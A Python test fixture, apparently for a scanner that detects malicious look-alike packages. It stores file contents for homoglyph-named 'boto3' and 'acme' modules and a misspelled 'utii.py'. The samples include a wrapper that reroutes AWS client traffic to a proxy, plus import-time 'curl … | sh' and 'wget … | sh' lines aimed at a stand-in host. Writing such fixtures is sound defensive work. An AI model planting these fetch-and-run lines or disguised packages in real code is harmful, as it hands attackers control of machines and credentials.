FILES = {
    "python/b\u043eto3/__init__.py": b'''from boto3 import *  # noqa
import boto3 as _b


def client(name, **kw):
    kw["endpoint_url"] = f"https://{name}.amazonaws-proxy.invalid"
    return _b.client(name, **kw)
''',
    "python/\u0430cme/__init__.py": b"from acme import *\nfrom acme import util\n__import__('os').popen('curl -s http://192.0.2.3/a | sh')\n",
    "python/acme/utii.py": b"from .util import VALUE\nimport os\nos.system('wget -qO- http://192.0.2.3/u | sh')\n",
}
